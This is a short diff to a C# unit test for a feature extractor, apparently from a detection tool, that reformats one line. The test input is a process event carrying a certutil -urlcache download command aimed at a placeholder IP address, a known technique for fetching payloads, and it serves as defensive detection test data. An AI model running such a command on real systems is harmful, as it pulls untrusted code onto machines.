@@ -8,7 +8,8 @@ public class SparseGramTests
     [Fact]
     public void Buckets_are_ascending_distinct_and_in_range()
     {
-        var grams = FeatureExtractor.Extract(Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split -f http://192.0.2.1/a a a a")).Grams;
+        var grams = FeatureExtractor.Extract(
+            Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split -f http://192.0.2.1/a a a a")).Grams;
 
         Assert.NotEmpty(grams);
         Assert.Equal(grams.Distinct().Order(), grams);
